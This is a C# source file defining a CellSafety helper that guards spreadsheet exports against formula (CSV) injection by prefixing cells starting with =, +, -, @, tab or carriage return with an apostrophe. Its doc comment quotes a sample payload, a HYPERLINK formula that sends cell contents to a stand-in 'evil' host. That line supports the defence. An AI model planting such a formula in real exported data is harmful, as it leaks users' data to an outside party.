namespace SmeZones.Core.Exports;

/// <summary>
/// Guards exported cells against formula injection (OWASP "CSV injection"): a value a spreadsheet
/// program would read as a formula, such as <c>=HYPERLINK("http://evil/?"&amp;A1)</c> typed into an
/// application form, is prefixed with an apostrophe so it stays text when the file is opened or re-imported.
/// </summary>
public static class CellSafety
{
    /// <summary>
    /// Returns <paramref name="value"/> with a leading <c>'</c> when it starts with = + - or @ (after any leading
    /// whitespace) or with a tab or carriage return; otherwise unchanged. Null becomes the empty string.
    /// </summary>
    public static string Neutralise(string? value)
    {
        if (string.IsNullOrEmpty(value))
        {
            return string.Empty;
        }

        // Tab and CR at the start make some programs shift or split the cell before reading it as a formula.
        if (value[0] is '\t' or '\r')
        {
            return "'" + value;
        }

        foreach (var ch in value)
        {
            if (!char.IsWhiteSpace(ch))
            {
                return ch is '=' or '+' or '-' or '@' ? "'" + value : value;
            }
        }

        return value;
    }
}
